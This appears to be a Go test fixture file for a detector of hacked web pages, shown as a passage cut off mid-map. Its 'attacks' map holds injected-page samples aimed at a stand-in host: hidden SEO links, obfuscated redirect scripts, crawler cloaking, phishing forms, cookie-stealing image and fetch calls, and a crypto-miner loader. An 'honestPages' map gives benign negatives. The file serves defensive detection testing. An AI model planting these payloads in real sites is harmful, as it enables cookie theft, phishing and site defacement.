package check

import (
	"encoding/base64"
	"encoding/hex"
	"strconv"
	"strings"
	"testing"
)

// to is a host of no ill fame: only the way of the attack can give it away.
const to = "http://www.lanting-jidian.example/p/3.html"

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func xored(s string, by byte) string {
	b := []byte(s)
	for i := range b {
		b[i] ^= by
	}
	return string(b)
}

func hexCodes(s string) string {
	var b []string
	for _, r := range s {
		b = append(b, strconv.FormatInt(int64(r), 16))
	}
	return strings.Join(b, "|")
}

func rot13(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case r >= 'A' && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, s)
}

// attacks are pages as they are found after a break-in, each by another way. LINK is a
// link to TO.
var attacks = map[string]string{
	// style sheets
	"container":            `<style>@container (min-width:0px){.z{display:none}}</style><div class="z">LINK</div>`,
	"scope":                `<style>@scope (.w){.z{display:none}}</style><div class="w"><div class="z">LINK</div></div>`,
	"import data":          `<style>@import url("data:text/css,.z{display:none}");</style><div class="z">LINK</div>`,
	"import data string":   `<style>@import "data:text/css;charset=utf-8,.z%7Bfont-size:0%7D";</style><div class="z">LINK</div>`,
	"import data base64":   `<style>@import url(data:text/css;base64,` + b64(".z{position:absolute;left:-999em}") + `);p{color:#333}</style><div class="z">LINK</div>`,
	"sheet of data":        `<link rel="stylesheet" href="data:text/css,.z%7Bdisplay%3Anone%7D"><div class="z">LINK</div>`,
	"media colour":         `<style>@media (color){.z{display:none}}</style><div class="z">LINK</div>`,
	"media hover or none":  `<style>@media (hover:hover),(hover:none){.z{display:none}}</style><div class="z">LINK</div>`,
	"media orientations":   `<style>@media (orientation:portrait),(orientation:landscape){.z{display:none}}</style><div class="z">LINK</div>`,
	"media range":          `<style>@media (width>=1px){.z{display:none}}</style><div class="z">LINK</div>`,
	"media height":         `<style>@media screen and (min-height:1px){.z{display:none}}</style><div class="z">LINK</div>`,
	"media no tiny":        `<style>@media not all and (max-width:10px){.z{display:none}}</style><div class="z">LINK</div>`,
	"max and min":          `<div style="font-size:min(0px,1em)">LINK</div>`,
	"clamp":                `<div style="font-size:clamp(0px,0px,1px)">LINK</div>`,
	"max of height":        `<div style="overflow:hidden;height:max(0px,0px)">LINK</div>`,
	"calc product":         `<div style="position:absolute;left:calc(-100px * 99)">LINK</div>`,
	"calc mixed":           `<div style="position:absolute;left:calc(-100vw - 100px)">LINK</div>`,
	"calc nested":          `<div style="position:absolute;top:calc(-1 * (9000px + 2px))">LINK</div>`,
	"calc opacity":         `<div style="opacity:calc(0)">LINK</div>`,
	"calc var":             `<style>:root{--far:9999px}</style><div style="position:absolute;left:calc(var(--far) * -1)">LINK</div>`,
	"var of var":           `<style>body{--a:var(--b);--b:none}.z{display:var(--a)}</style><div class="z">LINK</div>`,
	"font percent":         `<div style="font-size:1%">LINK</div>`,
	"opacity little":       `<div style="opacity:.03">LINK</div>`,
	"alpha one":            `<div style="filter:alpha(opacity=1)">LINK</div>`,
	"alpha no brackets":    `<div style="filter:progid:DXImageTransform.Microsoft.Alpha(opacity = 0)">LINK</div>`,
	"matrix3d":             `<div style="transform:matrix3d(0,0,0,0,0,0,0,0,0,0,1,0,0,0,0,1)">LINK</div>`,
	"rotate property":      `<div style="rotate:y 90deg">LINK</div>`,
	"skew":                 `<div style="transform:skewX(90deg)">LINK</div>`,
	"rotate3d":             `<div style="transform:rotate3d(1,0,0,90deg)">LINK</div>`,
	"translate calc":       `<div style="transform:translate(calc(-9000px - 1px),0)">LINK</div>`,
	"clip rect new":        `<div style="clip-path:rect(0 0 0 0)">LINK</div>`,
	"clip xywh":            `<div style="clip-path:xywh(0 0 0 0)">LINK</div>`,
	"clip path empty":      `<div style="clip-path:path('M0 0')">LINK</div>`,
	"clip inset sides":     `<div style="clip-path:inset(0 100% 0 0)">LINK</div>`,
	"clip polygon outside": `<div style="clip-path:polygon(-9px -9px,-9px -8px,-8px -9px)">LINK</div>`,
	"zoom percent":         `<div style="zoom:1%">LINK</div>`,
	"hwb white":            `<div style="background:#fff"><a style="color:hwb(0 100% 0%)" href="TO">点击进入</a></div>`,
	"lab white":            `<div style="background:white"><a style="color:lab(100% 0 0)" href="TO">点击进入</a></div>`,
	"oklch white":          `<div style="background:white"><a style="color:oklch(1 0 0)" href="TO">点击进入</a></div>`,
	"srgb white":           `<div style="background:white"><a style="color:color(srgb 1 1 1)" href="TO">点击进入</a></div>`,
	"root selector":        `<style>:root .z{display:none}</style><div class="z">LINK</div>`,
	"html body":            `<style>html>body div.z{display:none}</style><div class="z">LINK</div>`,
	"not an id":            `<style>.z:not(#no){display:none}</style><div class="z">LINK</div>`,
	"not a tag":            `<style>.z:not(span){display:none}</style><div class="z">LINK</div>`,
	"not hover":            `<style>.z:not(:hover){font-size:0}</style><div class="z">LINK</div>`,
	"nth n":                `<style>.z:nth-child(n){display:none}</style><div class="z">LINK</div>`,
	"has":                  `<style>.z:has(a){display:none}</style><div class="z">LINK</div>`,
	"after sibling":        `<style>h1~.z{display:none}</style><div class="z">LINK</div>`,
	"star class":           `<style>*.z{display:none}</style><div class="z">LINK</div>`,
	"attribute ancestor":   `<style>[data-k] .z{display:none}</style><div data-k><p class="z">LINK</p></div>`,
	"framework hidden":     `<link rel="stylesheet" href="/css/bootstrap.min.css"><div class="d-none">LINK</div>`,
	"layui hide":           `<link rel="stylesheet" href="/layui/css/layui.css"><div class="layui-hide">LINK</div>`,
	"reader only":          `<link rel="stylesheet" href="/css/bootstrap.css"><span class="sr-only">LINK</span>`,
	"white important":      `<div style="background-color:#FFFFFF!important"><a href="TO" style="color:#FFF!important">点击进入</a></div>`,
	"table tiny":           `<table height="1" width="1" style="display:block;overflow:hidden;height:1px"><tr><td>LINK</td></tr></table>`,
	"list collapsed":       `<ul style="max-height:0;overflow:clip"><li>LINK</li></ul>`,
	"block size":           `<div style="block-size:0;overflow:hidden">LINK</div>`,
	"inset block":          `<div style="position:absolute;inset-block:-9999px auto">LINK</div>`,
	"position by class":    `<style>.a{position:absolute}.b{top:-9999px}</style><div class="a b">LINK</div>`,
	// elements that nothing shows
	"conditional comment": `<!--[if lt IE 6]>LINK<![endif]-->`,
	"conditional css":     `<!--[if IE]><style>.z{display:none}</style><![endif]--><!--[if gte IE 5]><div>LINK</div><![endif]-->`,
	"comment with words":  `<!-- <a href="TO">时时彩平台</a> -->`,
	"template":            `<template>LINK</template>`,
	"noframes":            `<noframes>LINK</noframes>`,
	"noembed":             `<noembed>LINK</noembed>`,
	"canvas":              `<canvas width="1" height="1">LINK</canvas>`,
	"ruby":                `<ruby>政<rp>LINK</rp></ruby>`,
	"datalist":            `<datalist id="d">LINK</datalist>`,
	"summary hidden":      `<details><summary style="display:none">更多</summary>LINK</details>`,
	"svg attributes":      `<svg width="300" height="30"><a href="TO"><text x="0" y="9" opacity="0">点击进入</text></a></svg>`,
	"svg fill none":       `<svg><a xlink:href="TO"><text fill="none">点击进入</text></a></svg>`,
	"svg fill opacity":    `<svg><a href="TO"><text fill-opacity="0">点击进入</text></a></svg>`,
	"svg display":         `<svg><g display="none"><a href="TO"><text>点击进入</text></a></g></svg>`,
	"svg visibility":      `<svg><g visibility="hidden"><a href="TO"><text>点击进入</text></a></g></svg>`,
	"svg away":            `<svg width="10" height="10"><a href="TO"><text x="-9999" y="5">点击进入</text></a></svg>`,
	"svg transform":       `<svg><g transform="translate(-9999 0)"><a href="TO"><text>点击进入</text></a></g></svg>`,
	"svg scale":           `<svg><g transform="scale(0)"><a href="TO"><text>点击进入</text></a></g></svg>`,
	"svg defs":            `<svg><defs><a href="TO"><text>点击进入</text></a></defs></svg>`,
	"svg font":            `<svg><a href="TO"><text font-size="0">点击进入</text></a></svg>`,
	"svg foreign":         `<svg width="9" height="9"><foreignObject width="0" height="0">LINK</foreignObject></svg>`,
	"frame fallback":      `<iframe src="/own.html">LINK</iframe>`,
	"ip6":                 `<div style="display:none"><a href="http://[2408:8740:c0de::8]/">点击</a></div>`,
	"frames all taken":    `<style>body{margin:0}</style><iframe src="TO" style="position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:99999;border:0"></iframe>`,
	// head
	"refresh short":    `<meta http-equiv="refresh" content="0;TO">`,
	"refresh comma":    `<meta http-equiv="refresh" content="0, URL=TO">`,
	"hreflang":         `<link rel="alternate" hreflang="zh" href="TO">`,
	"alternate mobile": `<link rel="alternate" media="only screen and (max-width: 640px)" href="TO">`,
	"amphtml":          `<link rel="amphtml" href="TO">`,
	"canonical twice":  `<link rel="canonical nofollow" href="TO">`,
	"mobile agent":     `<meta name="mobile-agent" content="format=html5;url=TO">`,
	"prerender":        `<link rel="prerender" href="TO">`,
	"base upper":       `<BASE HREF="TO">`,
	// forms
	"form password":   `<form action="TO" method="post"><input name="user"><input type="password" name="pw"></form>`,
	"form of persons": `<form action="TO" method="post">姓名<input name="xm">身份证号<input name="sfzh">手机号<input name="mobile"></form>`,
	"form action":     `<form action="/save" method="post"><input name="idcard"><button formaction="TO">提交</button></form>`,
	"form sent":       `<form id="f9" action="TO"></form><script>document.getElementById("f9").submit()</script>`,
	"form hidden":     `<form style="display:none" action="TO"><input name="q"></form>`,
	// scripts
	"jsfuck":          `<script>` + strings.Repeat(`[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]]`, 40) + `()</script>`,
	"aaencode":        `<script>ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(ﾟｰﾟ)  =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ) =(ﾟΘﾟ)= (o^_^o)/ (o^_^o);</script>`,
	"jjencode":        `<script>$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$};$.$($.$($.$$+"\""+$.$_$_)())();</script>`,
	"bracket code":    `<script>document.write(String["fromCharCode"](` + codes(`<script src="`+to+`"></script>`) + `))</script>`,
	"char xor":        `<script>var t=` + strconv.Quote(xored(to, 3)) + `,s="";for(var i=0;i<t.length;i++)s+=String.fromCharCode(t.charCodeAt(i)^3);location.href=s</script>`,
	"hex string":      `<script>var h="` + hex.EncodeToString([]byte(`<a href="`+to+`">x</a>`)) + `",s="";for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));document.write(s)</script>`,
	"hex list":        `<script>document.write("` + hexCodes(`<script src="`+to+`"></script>`) + `".split("|").map(function(x){return String.fromCharCode(parseInt(x,16))}).join(""))</script>`,
	"base64 twice":    `<script>eval(atob(atob("` + b64(b64(`location.href="`+to+`"`)) + `")))</script>`,
	"base64 reversed": `<script>eval(atob("` + backwards(b64(`location.href="`+to+`"`)) + `".split("").reverse().join("")))</script>`,
	"rot13":           `<script>function r(s){return s.replace(/[a-zA-Z]/g,function(c){return String.fromCharCode((c<="Z"?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26)})}document.write(r('` + rot13(`<script src="`+to+`"></script>`) + `'))</script>`,
	"data script":     `<script src="data:text/javascript;base64,` + b64(`location.href="`+to+`"`) + `"></script>`,
	"variables":       `<script>var p="http:",h="//www.lanting",t="-jidian.example";window.location.href=p+h+t;</script>`,
	"concat":          `<script>location.href="http://".concat("www.lanting-","jidian.example/")</script>`,
	"template text":   "<script>var h='www.lanting-jidian.example';location.href=`http://${h}/`</script>",
	"write variable":  `<script>var u="` + to + `";document.write('<a style="display:none" href="'+u+'">点击</a>')</script>`,
	"write args":      `<script>document.write('<div style="display',':none">','<a href="` + to + `">点击</a></div>')</script>`,
	"style text":      `<div id="zq">LINK</div><script>document.getElementById("zq").style="display:none"</script>`,
	"css text plus":   `<div id="zq">LINK</div><script>document.getElementById("zq").style.cssText+=";display:none"</script>`,
	"class plus":      `<style>.gone{display:none}</style><div id="zq">LINK</div><script>document.getElementById("zq").className+=" gone"</script>`,
	"toggle attr":     `<div id="zq">LINK</div><script>document.getElementById("zq").toggleAttribute("hidden")</script>`,
	"query compound":  `<div class="w"><div class="zq">LINK</div></div><script>document.querySelector("div.w .zq").style.display="none"</script>`,
	"query attribute": `<div data-q="7">LINK</div><script>document.querySelector('[data-q="7"]').style.display="none"</script>`,
	"jquery compound": `<ul id="w"><li class="zq">LINK</li></ul><script>$("#w li.zq").hide()</script>`,
	"by tag":          `<div><section>LINK</section></div><script>document.getElementsByTagName("section")[0].style.display="none"</script>`,
	"previous":        `<div>LINK</div><script>document.currentScript.previousElementSibling.style.display="none"</script>`,
	"parent":          `<div>LINK<script>document.currentScript.parentNode.style.display="none"</script></div>`,
	"jquery made":     `<script>$('<a href="TO" style="display:none">点击</a>').appendTo("body")</script>`,
	"fragment":        `<script>document.body.appendChild(document.createRange().createContextualFragment('<div style="display:none"><a href="TO">点击</a></div>'))</script>`,
	"adjacent":        `<script>document.body.insertAdjacentHTML("beforeend",'<p style="font-size:0"><a href="TO">点击</a></p>')</script>`,
	"spider writes":   `<script>if(/Baiduspider|Sogou|360Spider/i.test(navigator.userAgent)){document.write('<a href="TO">点击进入</a>')}</script>`,
	"spider title":    `<script>if(navigator.userAgent.toLowerCase().indexOf("spider")==-1){document.title="某市人民政府"}</script><title>x</title>`,
	"any click":       `<script>document.onclick=function(){location.href="TO"}</script>`,
	"any touch":       `<script>document.addEventListener("touchstart",function(){window.location="TO"},{once:true})</script>`,
	"body jquery":     `<script>$(document).one("click",function(){location.href="TO"})</script>`,
	"pops up":         `<script>window.open("TO","_blank")</script>`,
	"pops up later":   `<script>setTimeout(function(){window.open("TO")},3000)</script>`,
	"leaving":         `<script>window.onbeforeunload=function(){location.href="TO"}</script>`,
	"time zone":       `<script>if(new Date().getTimezoneOffset()==-480){location.replace("TO")}</script>`,
	"language":        `<script>if(/zh/.test(navigator.language)&&!/bot|spider/i.test(navigator.userAgent))location="TO"</script>`,
	"referrer regexp": `<script>(function(){var s=document["referrer"];if(/\.(baidu|sogou|so|sm|toutiao|bing)\./.test(s)){self["location"]["replace"]("TO")}})()</script>`,
	"host test":       `<script>if(location.host.indexOf("gov")>-1&&window.top==window.self){top.location.href="TO"}</script>`,
	"focus":           `<input autofocus onfocus="location.href='TO'">`,
	"toggle":          `<details open ontoggle="location='TO'"><summary>x</summary></details>`,
	"animation":       `<b style="animation-name:a" onanimationstart="location.href='TO'"></b>`,
	"body click":      `<body onclick="location.href='TO'">`,
	"cookies away":    `<script>new Image().src="TO?c="+document.cookie</script>`,
	"cookies fetched": `<script>fetch("TO?c="+encodeURIComponent(document.cookie))</script>`,
	"miner":           `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var m=new CoinHive.Anonymous("k");m.start()</script>`,
	"script of hex":   `<script>var _0x1a=["\x68\x74\x74\x70\x3a\x2f\x2f\x77\x77\x77\x2e\x6c\x61\x6e\x74\x69\x6e\x67\x2d\x6a\x69\x64\x69\x61\x6e\x2e\x65\x78\x61\x6d\x70\x6c\x65","\x68\x72\x65\x66"];location[_0x1a[1]]=_0x1a[0]</script>`,
	"octal":           `<script>eval("\154\157\143\141\164\151\157\156\75\42\150\164\164\160\72\57\57\167\167\167\56\154\141\156\164\151\156\147\55\152\151\144\151\141\156\56\145\170\141\155\160\154\145\42")</script>`,
	"bar made":        `<script>var b=document.createElement("div");b.setAttribute("style","display:none");b.innerHTML="<a href='TO'>点击</a>";document.body.append(b)</script>`,
	// words
	"doorway":            `<title>百家乐官网_真人百家乐_线上百家乐</title><h1>百家乐官网</h1><p>百家乐官网提供真人百家乐、老虎机、时时彩投注，注册送彩金。信誉办法完善，管理规范。</p>`,
	"defaced, this site": `<title>*** This site was hacked by Anon ***</title><p>x</p>`,
	"defaced in Chinese": `<title>您的网站已被黑！</title><p>x</p>`,
	"card form":          `<form action="TO"><input name="bank_card"></form>`,
	"form sent by name":  `<form name="zf" action="TO"><input type="hidden" name="a"></form><script>document.zf.submit()</script>`,
	"defaced":            `<title>Hacked By Anon</title><h1>Hacked By Anon</h1><p>Your security is low</p>`,
	"og title":           `<meta property="og:title" content="澳门葡京赌场_真人荷官">`,
	"json ld words":      `<script type="application/ld+json">{"@type":"WebSite","name":"澳门百家乐官网","url":"TO"}</script>`,
	"brand":              `<meta name="keywords" content="开云体育,开云app下载">`,
	"title numeric":      `<meta name="description" content="&#24320;&#20113;&#20307;&#32946;">`,
	"link traditional":   `<div><a href="TO">線上百家樂</a></div>`,
}

func backwards(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}

// honestPages look like attacks. FRIEND is a link to a firm that no list knows.
var honestPages = map[string]string{
	"drop-down hover":     `<style>.yq ul{display:none}.yq:hover ul{display:block}</style><div class="yq">友情链接<ul><li>FRIEND</li><li><a href="http://www.weihe-shuili.com">某设计院</a></li></ul></div>`,
	"drop-down script":    `<div id="yqBtn">相关链接</div><div id="yqBox" style="display:none">FRIEND <a href="http://www.weihe-shuili.com">某设计院</a></div><script>document.getElementById("yqBtn").onclick=function(){document.getElementById("yqBox").style.display="block"}</script>`,
	"drop-down jquery":    `<div class="lk-t">网站链接</div><div class="lk-c" style="display:none">FRIEND</div><script>$(".lk-t").click(function(){$(".lk-c").slideToggle()})</script>`,
	"tabs jquery":         `<style>.bd div{display:none}.bd div.on{display:block}</style><div class="bd"><div class="on">甲</div><div>FRIEND</div></div>`,
	"list of a menu":      `<style>.sub li{display:none}.sub.open li{display:block}</style><ul class="sub"><li><a href="/1">甲</a></li></ul><ul class="friends"><li>FRIEND</li></ul>`,
	"white in a head":     `<style>body{background:#fff}.head{background:#c00}.head a{color:#fff}</style><div class="head"><a href="/">首页</a></div><div class="foot2">FRIEND</div>`,
	"only of the banner":  `<style>.banner a{font-size:0}</style><div class="banner"><a href="/1"><img src="/1.jpg"></a></div><p>FRIEND</p>`,
	"gradient letters":    `<h3 style="background:linear-gradient(90deg,#c00,#f60);-webkit-background-clip:text;color:transparent">FRIEND</h3>`,
	"gradient fill":       `<style>.g{background-image:linear-gradient(#111,#999);background-clip:text;-webkit-text-fill-color:transparent}</style><div class="g">FRIEND</div>`,
	"skip link":           `<style>.skip{position:absolute;left:-999px}.skip:focus{left:0}</style><a class="skip" href="#c">跳到主要内容</a>`,
	"print link":          `<style>@media print{.foot{display:none}}</style><div class="foot">FRIEND</div>`,
	"dark":                `<style>@media (prefers-color-scheme:dark){a{color:#fff}}</style>FRIEND`,
	"reduced motion":      `<style>@media (prefers-reduced-motion:reduce){.s{opacity:0}}</style><div class="s">FRIEND</div>`,
	"phones":              `<style>@media screen and (max-width:768px){.pc{display:none}}</style><div class="pc">FRIEND</div>`,
	"tall screens":        `<style>@media (min-height:900px){.q{display:none}}</style><div class="q">FRIEND</div>`,
	"container narrow":    `<style>@container (max-width:400px){.q{display:none}}</style><div class="q">FRIEND</div>`,
	"lazy":                `<a href="http://www.fengxiang-bowuguan.com"><img class="lazy" data-src="/l.png" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" width="120" height="40" alt="某博物馆"></a>`,
	"lazy no size":        `<a href="http://www.fengxiang-bowuguan.com"><img class="lazyload" data-original="/l.png" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="某博物馆"></a>`,
	"wechat code":         `<div class="wx">关注微信<div class="wxcode" style="display:none"><img src="/ewm.jpg" width="120"></div></div><style>.wx:hover .wxcode{display:block!important}</style>`,
	"token":               `<form action="/letter/save"><input type="hidden" name="_csrf" value="d2luZG93LmxvY2F0aW9uLmhyZWY9J2h0dHA6Ly9hLmIuY29tJw=="><input name="title"></form>`,
	"search elsewhere":    `<form action="https://www.baidu.com/s"><input name="wd"><input type="hidden" name="si" value="www.example.gov.cn"></form>`,
	"search of a vendor":  `<form action="http://search.yunjiansuo-fuwu.com/s" method="get"><input name="q" placeholder="请输入关键词"><button>搜索</button></form>`,
	"form to gov":         `<form action="https://zwfw.shaanxi.gov.cn/login" method="post"><input name="u"><input type="password" name="p"></form>`,
	"51la":                `<script charset="UTF-8" id="LA_COLLECT" src="//sdk.51.la/js-sdk-pro.min.js"></script><script>LA.init({id:"x",ck:"x"})</script>`,
	"cnzz":                `<script>var cnzz_protocol=(("https:"==document.location.protocol)?"https://":"http://");document.write(unescape("%3Cspan id='cnzz_stat_icon_1'%3E%3C/span%3E%3Cscript src='"+cnzz_protocol+"s4.cnzz.com/z_stat.php%3Fid%3D1' type='text/javascript'%3E%3C/script%3E"));</script>`,
	"old baidu":           `<script>var _bdhmProtocol=(("https:"==document.location.protocol)?" https://":" http://");document.write(unescape("%3Cscript src='"+_bdhmProtocol+"hm.baidu.com/h.js%3Fabc' type='text/javascript'%3E%3C/script%3E"))</script>`,
	"jiathis":             `<div class="jiathis_style"><a class="jiathis_button_qzone"></a></div><script src="http://v3.jiathis.com/code/jia.js"></script>`,
	"verification":        `<meta name="baidu-site-verification" content="codeva-x"><meta name="360-site-verification" content="x"><meta name="sogou_site_verification" content="x"><meta name="google-site-verification" content="x">`,
	"mobile own":          `<script>if(/Android|iPhone|Mobile/i.test(navigator.userAgent)){var h="m.example.gov.cn";location.href="http://"+h+location.pathname}</script>`,
	"mobile agent own":    `<meta name="mobile-agent" content="format=html5;url=http://m.example.gov.cn/a.html"><link rel="alternate" media="only screen and (max-width: 640px)" href="http://m.example.gov.cn/a.html">`,
	"languages":           `<link rel="alternate" hreflang="en" href="http://en.example.gov.cn/"><link rel="alternate" type="application/rss+xml" href="http://www.example.gov.cn/rss.xml">`,
	"prefetch":            `<link rel="dns-prefetch" href="//cdn.yunjisuan-jieru.com"><link rel="preconnect" href="https://cdn.yunjisuan-jieru.com">`,
	"refresh own":         `<meta http-equiv="refresh" content="600"><meta http-equiv="refresh" content="5;url=/index.html">`,
	"video":               `<video src="https://vod.yingxiang-fuwu.com/1.mp4" controls>您的浏览器不支持播放，请<a href="https://vod.yingxiang-fuwu.com/1.mp4">下载</a></video>`,
	"video script":        `<script>var v=document.createElement("video");v.src="https://vod.yingxiang-fuwu.com/1.mp4";v.style.display="none";document.body.appendChild(v)</script>`,
	"canvas text":         `<canvas id="c">您的浏览器不支持画布</canvas>`,
	"map":                 `<script src="https://api.map.baidu.com/api?v=3.0&ak=x"></script><script>var m=new BMap.Map("m");m.addControl(new BMap.ScaleControl())</script>`,
	"tianditu":            `<script src="https://api.tianditu.gov.cn/api?v=4.0&tk=x"></script>`,
	"packer of own":       `<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('$(3(){$(".1").0()})',4,4,'slide|banner||function'.split('|'),0,{}))</script>`,
	"jsonp":               `<script>$.ajax({url:"https://tianqi.qixiang-fuwu.com/w?cb=?",dataType:"jsonp",success:function(d){$("#w").html('<span>'+d.t+'</span>')}})</script>`,
	"minified jquery":     `<script>!function(e,t){"use strict";"object"==typeof module&&"object"==typeof module.exports?module.exports=e.document?t(e,!0):function(e){if(!e.document)throw new Error("x");return t(e)}:t(e)}("undefined"!=typeof window?window:this,function(C,e){var t=[],r=Object.getPrototypeOf;function b(e,t,n){var r,i=(n=n||E).createElement("script");i.text=e;n.head.appendChild(i).parentNode.removeChild(i)}var M=new RegExp("\\\\[\\da-fA-F]{1,6}[\\x20\\t\\r\\n\\f]?|\\\\([^\\r\\n\\f])","g");C.jQuery=C.$=b});</script>`,
	"gambling crime":      `<title>市公安局通报一起跨境网络赌博案件</title><p>警方捣毁“百家乐”“时时彩”“六合彩”网络赌博团伙，抓获犯罪嫌疑人23名，查获老虎机12台。</p>`,
	"court":               `<title>开设赌场罪一审刑事判决书</title><p>被告人租赁房屋摆放老虎机、捕鱼游戏机，供他人赌博，法院以开设赌场罪判处有期徒刑。</p>`,
	"fraud":               `<title>警惕！“注册送彩金”是骗局</title><p>反诈中心提醒：凡是要求下载APP投注、百家乐、刷单返利的都是诈骗。</p>`,
	"sports":              `<title>全市德州扑克类竞技比赛违规举办情况的通报</title><p>对以德州扑克比赛为名的赌博活动予以查处。</p>`,
	"games":               `<title>全市中小学棋牌比赛举行</title><p>比赛设象棋、围棋、国际象棋项目。</p>`,
	"more list":           `<div class="news"><ul class="rest" style="display:none"><li><a href="/1">一</a></li><li><a href="/2">二</a></li></ul><a href="javascript:void(0)" onclick="$('.rest').show()">更多</a></div>`,
	"chat":                `<script>(function(){var d=document.createElement("script");d.src="https://kefu.zhineng-wenda.com/kf.js";d.async=true;document.body.appendChild(d)})()</script><div id="kfbox" style="display:none"></div>`,
	"epidemic":            `<div style="position:fixed;right:0;bottom:0"><a href="http://www.gov.cn/fuwu/zt/yqfwzq/">疫情防控专区 😷</a></div><p>🎉🎉热烈庆祝🎉🎉</p>`,
	"ie shim":             `<!--[if lt IE 9]><script src="https://cdn.shim-jingxiang.com/html5shiv.js"></script><![endif]-->`,
	"ie tip":              `<!--[if lte IE 8]><div>您使用的浏览器版本过低，建议<a href="http://www.shengji-liulanqi.com/">升级浏览器</a>后访问</div><![endif]-->`,
	"old comment":         `<!-- <a href="http://www.fengxiang-bowuguan.com">某博物馆</a> <div style="display:none">旧版</div> -->`,
	"vue template":        `<template id="row"><li><a :href="item.url">{{item.title}}</a></li></template><script type="text/x-template"><a href="{{url}}">{{t}}</a></script>`,
	"template own":        `<template><a href="/zwgk/">政务公开</a></template>`,
	"cover of own":        `<a href="/map" style="position:absolute;inset:0;opacity:0">地图</a>`,
	"click to menu":       `<script>document.onclick=function(e){if(!e.target.closest(".menu"))$(".menu").hide()}</script>`,
	"click by name":       `<script>$(document).on("click",".go",function(){window.open("http://www.fengxiang-bowuguan.com/")})</script>`,
	"window on click":     `<script>function openZx(){window.open("http://www.zaixian-diaocha.com/","_blank")}</script><a onclick="openZx()">问卷调查</a>`,
	"leave tip":           `<script>$("a[href^=http]").click(function(){if(this.host.indexOf("gov.cn")<0)return confirm("即将离开本站")})</script>`,
	"cookies at home":     `<script>new Image().src="https://tongji.example.gov.cn/t.gif?c="+encodeURIComponent(document.cookie)</script>`,
	"statistics own wise": `<script>var i=new Image();i.src="//tongji.shuju-fuwu.com/t.gif?u="+encodeURIComponent(location.href)+"&r="+encodeURIComponent(document.referrer)</script>`,
	"spider aside":        `<script>if(!/bot|spider|crawl/i.test(navigator.userAgent)){$.post("/visit",{u:location.href})}</script>`,
	"spider and own":      `<script>var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("micromessenger")>-1){document.write('<script src="https://res.wx.qq.com/open/js/jweixin-1.6.0.js"><\/script>')}</script>`,
	"title by script":     `<script>document.title="政策文件_"+document.title;document.title="某市人民政府门户网站"</script>`,
	"blink title":         `<script>document.addEventListener("visibilitychange",function(){document.title=document.hidden?"记得回来":"某市人民政府"})</script>`,
	"ruishu":              `<meta content="RQoC3uVjZ6k" r="m"><script r="m">$_ts=window['$_ts'];if(!$_ts)$_ts={};$_ts.nsd=86374;$_ts.cd="qrtqcAqlDaqrlaqkcqLqhGL3WZLrlGLrcqGqrqVRc9qrhaqn";(function(){var _$a1=0,_$b2=[[4,9],[2]];function _$c3(_$d){return _$d^85}})();</script>`,
	"obfuscated arrays":   `<script>var _0x3f=['\x6c\x65\x6e\x67\x74\x68','\x70\x75\x73\x68'];(function(a,b){while(--b){a[_0x3f[1]](a['shift']())}})(_0x3f,0x1a3);</script>`,
	"char codes plain":    `<script>var s=String.fromCharCode(65,66,67,68,69);function x(c,k){return String.fromCharCode(c.charCodeAt(0)^k)}</script>`,
	"base64 font":         `<style>@font-face{font-family:i;src:url(data:font/woff;base64,d09GRgABAAAAAA)}.i{font-family:i}</style><i class="i">FRIEND</i>`,
	"base64 image":        `<script>var logo="data:image/svg+xml;base64,` + b64(`<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`) + `";atob("aGVsbG8gd29ybGQ=")</script>`,
	"svg logo":            `<a href="http://www.fengxiang-bowuguan.com"><svg width="20" height="20" fill="none" viewBox="0 0 20 20"><path fill="#c00" d="M0 0h20v20z"/></svg></a>`,
	"svg sprite":          `<svg style="display:none"><defs><symbol id="a"><path d="M0 0"/></symbol></defs></svg>FRIEND`,
	"svg map":             `<svg width="400" height="300"><a xlink:href="http://www.fengxiang-bowuguan.com"><path fill="#eee" fill-opacity="0" stroke="#333" d="M0 0h9v9z"/><text x="5" y="9">某区</text></a></svg>`,
	"private address":     `<div style="display:none"><a href="http://192.168.1.9:8080/cms/">后台</a><a href="http://127.0.0.1/">本机</a></div>`,
	"hide by name":        `<div class="w"><p>通知</p></div><script>$(".w p").hide().fadeIn()</script><p>FRIEND</p>`,
	"by tag hidden":       `<script>document.getElementsByTagName("section")[0].style.display="none"</script><section><a href="/1">甲</a></section><section>FRIEND</section>`,
	"list in table":       `<table><tr><td height="1" style="font-size:0"></td></tr><tr><td>FRIEND</td></tr></table>`,
	"hidden row":          `<table><tr style="display:none"><td><a href="/x">模板</a></td></tr></table>`,
	"slides":              `<style>.sl{position:absolute;opacity:0;transition:opacity 1s}.sl.on{opacity:1}</style><div class="sl on"><a href="/1"><img src="/1.jpg"></a></div><div class="sl"><a href="http://www.fengxiang-bowuguan.com"><img src="/2.jpg" alt="展览"></a></div>`,
